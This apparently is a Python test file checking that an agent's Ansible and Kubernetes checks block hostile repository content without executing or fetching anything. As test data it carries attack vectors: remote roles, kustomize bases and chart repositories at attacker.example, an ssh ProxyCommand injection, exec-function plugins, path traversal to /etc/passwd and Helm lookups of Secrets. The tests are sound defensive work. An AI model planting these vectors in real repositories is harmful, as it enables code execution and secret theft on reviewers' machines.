"""Attack rows that the checks of plays, manifests and charts answer, by id: nothing runs, nothing is reached."""

from collections.abc import Callable
from datetime import date
from io import StringIO
from pathlib import Path

import pytest

from agent.checks import ansible_lint, kubernetes, kubernetes_build
from agent.checks.check import Check, Context
from agent.checks.run import run_checks
from agent.domain import File, Findings
from agent.guardrails import Guardrails
from agent.settings import Settings
from agent.tools import Tools
from tests.checks.fixtures import context, guardrails, kubernetes_python

__all__ = ["context", "guardrails", "kubernetes_python"]

PLAY, APP = "infra/ansible/web", "infra/kubernetes/dev/shop"
SITE = "---\n- name: Web\n  hosts: web\n  tasks:\n    - name: Ping\n      ansible.builtin.ping:\n"
EVIL = "open({0!r}, 'w').close()\n"
Blocked = Callable[..., None]


@pytest.fixture
def blocked(
    tools: Tools, settings: Settings, guardrails: Guardrails, kubernetes_python: str, tmp_path: Path
) -> Blocked:
    """The check blocks and says why, and no program was started on the files."""

    def run(name: str, check: Check, reason: str, **texts: str) -> None:
        log = StringIO()
        sentinel = tmp_path / "sentinel"
        files = [
            File(path=path, content=text.replace("SENTINEL", str(sentinel)).replace("EVIL", EVIL.format(str(sentinel))))
            for path, text in texts.items()
        ]
        findings: Findings = run_checks(
            files, units=[PLAY, APP], settings=settings, guardrails=guardrails,
            tools=Tools(environment=tools.environment, log=log), root=tmp_path, checkov_python="none",
            ansible_python="/nowhere/python", kubernetes_python=kubernetes_python, today=date(2026, 5, 1),
            checks={name: check},
        )  # fmt: skip
        assert findings.checks[0].status == "error"
        assert (findings.findings[0].rule, findings.findings[0].severity) == ("check/could-not-run", "critical")
        assert reason in findings.findings[0].message
        assert log.getvalue() == ""
        assert not sentinel.exists()

    return run


def test_S05_a_rules_folder_in_the_tree(blocked: Blocked) -> None:
    blocked(
        "ansible-lint", ansible_lint, "paths/", **{
            f"{PLAY}/.ansible-lint": "rulesdir: [rules]\n", f"{PLAY}/rules/evil.py": "EVIL", f"{PLAY}/site.yml": SITE,
        },
    )  # fmt: skip


def test_S06_filter_plugins_beside_the_playbook(blocked: Blocked) -> None:
    blocked(
        "ansible-lint", ansible_lint, "filter_plugins",
        **{f"{PLAY}/filter_plugins/f.py": "EVIL", f"{PLAY}/site.yml": SITE},
    )  # fmt: skip


@pytest.mark.parametrize("name", ["requirements.yml", "collections/requirements.yml", "roles/requirements.yml"])
def test_S07_A04_requirements_are_not_installed(blocked: Blocked, name: str) -> None:
    text = "- src: git+https://attacker.example/role.git\n"
    blocked("ansible-lint", ansible_lint, "paths/", **{f"{PLAY}/{name}": text, f"{PLAY}/site.yml": SITE})


@pytest.mark.parametrize("task", ["include_role: {name: attacker.collection.role}", "import_role: {name: 'a.b.c'}"])
def test_A04_a_role_from_elsewhere_is_not_looked_for(blocked: Blocked, task: str) -> None:
    blocked(
        "ansible-lint", ansible_lint, "ansible/include",
        **{f"{PLAY}/site.yml": f"- hosts: web\n  tasks:\n    - {task}\n"},
    )  # fmt: skip


@pytest.mark.parametrize(
    "folder",
    ["filter_plugins", "library", "module_utils", "action_plugins", "callback_plugins", "lookup_plugins",
     "vars_plugins", "inventory_plugins", "roles/x/library", "roles/x/filter_plugins", "test_plugins", "plugins/filter",
     "collections/ansible_collections/a/b/plugins/modules"],
)  # fmt: skip
def test_A05_plugins_beside_the_playbook(blocked: Blocked, folder: str) -> None:
    blocked("ansible-lint", ansible_lint, "paths/", **{f"{PLAY}/{folder}/f.py": "EVIL", f"{PLAY}/site.yml": SITE})


def test_A06_settings_in_the_tree(blocked: Blocked) -> None:
    text = (
        "[defaults]\ncallback_plugins=./x\nlibrary=./x\n[ssh_connection]\nssh_args=-o ProxyCommand='touch SENTINEL'\n"
    )
    blocked("ansible-lint", ansible_lint, "paths/", **{f"{PLAY}/ansible.cfg": text, f"{PLAY}/site.yml": SITE})


@pytest.mark.parametrize(
    "text",
    [
        "resources: ['https://github.com/attacker/x?ref=main']",
        "resources: ['git@github.com:attacker/x']",
        "resources: [github.com/attacker/x//base]",
        "bases: ['ssh://git@attacker.example/x']",
        "components: ['git::https://attacker.example/x']",
        "patches: [{path: 'https://attacker.example/p.yaml'}]",
        "resources: [../../../../../../etc]",
    ],
)
def test_K06_a_remote_base_is_not_fetched(blocked: Blocked, text: str) -> None:
    blocked("kubernetes", kubernetes, "kubernetes/kustomize", **{f"{APP}/kustomization.yaml": f"{text}\n"})


@pytest.mark.parametrize(
    "text",
    [
        "generators: [x.yaml]",
        "transformers: [x.yaml]",
        "validators: [x.yaml]",
        "helmCharts: [{name: x, repo: 'https://attacker.example'}]",
        "helmGlobals: {chartHome: /etc, configHome: /tmp}",
        "helmChartInflationGenerator: [{chartName: x}]",
        "openapi: {path: /etc/passwd}",
    ],
)
def test_K07_a_plugin_is_not_run(blocked: Blocked, text: str) -> None:
    plugin = "apiVersion: x/v1\nkind: X\nmetadata:\n  annotations:\n"
    plugin += "    config.kubernetes.io/function: 'exec: {path: SENTINEL}'\n"
    blocked(
        "kubernetes", kubernetes, "kubernetes/kustomize",
        **{f"{APP}/kustomization.yaml": f"{text}\n", f"{APP}/x.yaml": plugin},
    )  # fmt: skip


@pytest.mark.parametrize(
    "address",
    ["https://attacker.example/x?ref=main", "git@attacker.example:a/b", "http://192.0.2.1/x.yaml", "github.com/a/b//c"],
)
def test_K06_the_renderer_itself_reaches_nothing(
    context: Callable[..., Context], tools: Tools, tmp_path: Path, address: str
) -> None:
    """What the check would have refused, handed to the renderer all the same: no git, no network, a quick error."""
    if not (tools.which("kubectl") or tools.which("kustomize")):
        pytest.skip("neither kubectl nor kustomize on PATH: kustomizations are not tested")
    (tmp_path / "k").mkdir()
    (tmp_path / "k" / "kustomization.yaml").write_text(f"resources: ['{address}']\n")
    text, error = kubernetes_build.kustomize(tmp_path, "k", context(), home=tmp_path / "k", timeout=20.0)
    assert text == ""
    assert any(reason in error for reason in ("no 'git' program on path", "proxyconnect tcp: dial tcp 127.0.0.1:9"))


@pytest.mark.parametrize(
    "where", ["https://attacker.example/charts", "file://../../../etc", "oci://attacker.example/x"]
)
def test_K09_a_charts_dependency_is_not_fetched(blocked: Blocked, where: str) -> None:
    chart = (
        f"apiVersion: v2\nname: x\nversion: 1.0.0\ndependencies: [{{name: y, version: 1.0.0, repository: '{where}'}}]\n"
    )
    blocked("kubernetes", kubernetes, "kubernetes/chart", **{f"{APP}/Chart.yaml": chart})


def test_K09_a_template_that_asks_the_cluster_or_a_name_server(
    context: Callable[..., Context], kubernetes_python: str
) -> None:
    chart = "apiVersion: v2\nname: x\nversion: 1.0.0\n"
    template = "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: x}}\ndata:\n  x: {{{{ {} | toJson | quote }}}}\n"
    asking = ('getHostByName "localhost"', 'lookup "v1" "Secret" "" ""', '.Files.Get "/etc/passwd"', "tpl .Values.x .")
    files = [
        File(path=f"{APP}/Chart.yaml", content=chart),
        File(path=f"{APP}/values.yaml", content="x: '{{'\n"),
        *(
            File(path=f"{APP}/templates/t{number}.yaml", content=template.format(text))
            for number, text in enumerate(asking[:3])
        ),
    ]
    findings = kubernetes.run(files[:1] + files[2:], context=context(kubernetes=kubernetes_python)).findings
    assert {(item.rule, item.path.rsplit("/", 1)[-1]) for item in findings} == {
        ("kubernetes/template", "t0.yaml"), ("kubernetes/template", "t1.yaml"), ("kubernetes/template", "t2.yaml"),
    }  # fmt: skip
    values = File(path=f"{APP}/values.yaml", content="x: a\n")
    tpl = [files[0], values, File(path=f"{APP}/templates/t.yaml", content=template.format(asking[3]))]
    findings = kubernetes.run(tpl, context=context(kubernetes=kubernetes_python)).findings
    assert "kubernetes/template" in {item.rule for item in findings}
